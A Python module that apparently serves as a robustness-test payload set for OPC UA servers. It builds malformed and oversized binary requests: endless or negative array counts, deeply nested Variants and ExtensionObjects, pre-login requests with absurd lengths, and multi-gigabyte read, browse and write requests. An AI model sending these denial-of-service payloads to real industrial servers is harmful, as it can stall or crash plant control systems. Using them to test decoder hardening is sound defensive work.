"""OPC UA requests made by hand to hurt: each is small, and each asks for far more than it is.

Source: OPC 10000-6, 5.2.2 (encodings), 5.1.5 (how deep a decoder goes).
"""

from __future__ import annotations

import struct
from collections.abc import Iterator
from typing import Any

from asyncua import ua
from asyncua.ua.ua_binary import nodeid_to_binary, struct_to_binary

_EVER = 0x7FFF_FFFF
_COUNT = struct.Struct("<i")
_VARIANT, _EXTENSION, _DIAGNOSTICS = 24, 22, 25
_ARRAY, _SHAPED = 0x80, 0xC0
BIG_NODE = ua.ObjectIds.OpcUa_XmlSchema  # its value has 340 kB


def head(service: str, token: Any, additional: bytes = b"\0\0\0") -> bytes:
    """Return type and header of a request; `additional` is an ExtensionObject. Source: OPC 10000-4, 7.32."""
    number = getattr(ua.ObjectIds, f"{service}Request_Encoding_DefaultBinary")
    fixed = struct.pack("<qIIiI", 0, 1, 0, -1, 10_000)
    whose: bytes = nodeid_to_binary(token)
    return struct.pack("<BBH", 1, 0, number) + whose + fixed + additional


def extension(inner: bytes) -> bytes:
    """Return an ExtensionObject that holds any Variant: a LiteralOperand."""
    number = ua.ObjectIds.LiteralOperand_Encoding_DefaultBinary
    return struct.pack("<BBHB", 1, 0, number, 1) + _COUNT.pack(len(inner)) + inner


def variants() -> Iterator[tuple[str, bytes]]:
    """Yield Variants that no decoder should believe."""
    yield "an array of nulls without end", struct.pack("<Bi", _ARRAY, _EVER)
    yield "strings that are read again", struct.pack("<Bii", _ARRAY | 12, _EVER, -4)
    yield "byte strings that are read again", struct.pack("<Bii", _ARRAY | 15, _EVER, -4)
    yield "a count that nothing follows", struct.pack("<Bi", _ARRAY | 11, _EVER)
    yield "a count below zero", struct.pack("<Bi", _ARRAY | 11, -7)
    shaped = struct.pack("<Biii", _SHAPED | 1, 0, 1, 1_000_000)
    yield "a million elements, many times", struct.pack("<Bi", _ARRAY | _VARIANT, 500) + shaped * 500
    yield "dimensions without end", struct.pack("<Bii", _SHAPED | 1, 0, 6_000) + _COUNT.pack(_EVER) * 6_000
    yield "dimensions below zero", struct.pack("<Biiii", _SHAPED | 1, 0, 2, -5, -5)
    yield "variants in variants", struct.pack("<Bi", _ARRAY | _VARIANT, 1) * 9_000 + b"\0"
    yield "sixty thousand variants", struct.pack("<Bi", _ARRAY | _VARIANT, 60_000) + bytes(60_000)
    yield "diagnostics in diagnostics", bytes([_DIAGNOSTICS]) + b"\x40" * 60_000
    deep = b"\0"
    while len(deep) < 50_000:
        deep = bytes([_EXTENSION]) + extension(deep)
    yield "objects in objects", deep


def before_login(token: Any) -> Iterator[tuple[str, bytes]]:
    """Yield requests that a server decodes for anybody."""
    for name, variant in variants():
        yield name, head("GetEndpoints", token, extension(variant)) + bytes(12)
    for count, length in ((_EVER, -4), (_EVER, 0), (-4, -4), (60_000, -2), (1, _EVER)):
        url = _COUNT.pack(0)
        body = url + struct.pack("<ii", count, length) + _COUNT.pack(0)
        yield f"{count} locales of {length} bytes", head("GetEndpoints", token) + body
        for service in ("FindServers", "CreateSession", "ActivateSession"):
            yield (
                f"{service} of {count} and {length}",
                head(service, token) + struct.pack("<iiii", count, length, count, length) * 4,
            )
    for kind in (6, 9, 31, 63):
        yield f"a type of encoding {kind}", bytes([kind]) + bytes(64)
    yield "nothing", b""
    for length in (1, 4, 9, 20, 33):
        yield f"the first {length} bytes", head("GetEndpoints", token)[:length]


def after_login(token: Any, path: str) -> Iterator[tuple[str, bytes]]:
    """Yield requests of somebody who may look; `path` is the node of a tag."""

    def asked(request: Any) -> bytes:
        request.RequestHeader.AuthenticationToken = token
        data: bytes = struct_to_binary(request)
        return data

    node, big = ua.NodeId(path, 2), ua.NodeId(BIG_NODE)
    read = ua.ReadRequest()
    read.Parameters.NodesToRead = [ua.ReadValueId(big, ua.AttributeIds.Value)] * 10_000
    yield "three gigabytes", asked(read)
    read.Parameters.NodesToRead = [ua.ReadValueId(node, ua.AttributeIds.Value)] * 60_000
    yield "sixty thousand nodes", asked(read)
    write = ua.WriteRequest()
    for value in (1.0, [1.0] * 60_000, "x" * 60_000, None):
        variant = ua.Variant(value, None if value is None else ua.Variant(value).VariantType)
        one = ua.WriteValue(node, ua.AttributeIds.Value, Value=ua.DataValue(variant))
        write.Parameters.NodesToWrite = [one] * (2_000 if value == 1.0 else 1)
        yield f"a write of {str(value)[:10]}", asked(write)
    for name, variant in variants():
        value = nodeid_to_binary(node) + struct.pack("<Ii", ua.AttributeIds.Value, -1)
        yield f"a write of {name}", head("Write", token) + _COUNT.pack(1) + value + b"\x01" + variant
    steps = [
        ua.RelativePathElement(ua.NodeId(33), bool(n % 2), True, ua.QualifiedName("Server"))
        for n in range(60)
    ]
    translate = ua.TranslateBrowsePathsToNodeIdsRequest()
    translate.Parameters.BrowsePaths = [
        ua.BrowsePath(ua.NodeId(ua.ObjectIds.ObjectsFolder), ua.RelativePath(steps))
    ] * 900
    yield "sixty steps, nine hundred times", asked(translate)
    browse = ua.BrowseRequest()
    browse.Parameters.NodesToBrowse = [
        ua.BrowseDescription(ua.NodeId(22), ua.BrowseDirection.Both, ua.NodeId(), True, 0, 63)
    ] * 900
    yield "every reference, nine hundred times", asked(browse)


def items(subscription: int, path: str) -> Iterator[Any]:
    """Yield requests for monitored items whose filters are for something else."""
    filters = [
        ua.EventFilter(),
        ua.AggregateFilter(),
        ua.LiteralOperand(ua.Variant([1, 2, 3])),
        ua.DataChangeFilter(ua.DataChangeTrigger.StatusValue, 1, 0.5),
        ua.DataChangeFilter(ua.DataChangeTrigger.StatusValue, 2, float("nan")),
        ua.DataChangeFilter(ua.DataChangeTrigger.StatusValueTimestamp, 77, -1.0),
    ]
    nodes = [ua.NodeId(path, 2), ua.NodeId(ua.ObjectIds.Server_ServerStatus_CurrentTime), ua.NodeId(BIG_NODE)]
    for each in filters:
        request = ua.CreateMonitoredItemsRequest()
        request.Parameters.SubscriptionId = subscription
        request.Parameters.ItemsToCreate = [
            ua.MonitoredItemCreateRequest(
                ua.ReadValueId(node, attribute),
                ua.MonitoringMode.Reporting,
                ua.MonitoringParameters(1, 100.0, each, 0xFFFF_FFFF, True),
            )
            for node in nodes
            for attribute in (ua.AttributeIds.Value, ua.AttributeIds.DisplayName, 4_000_000)
        ]
        yield request
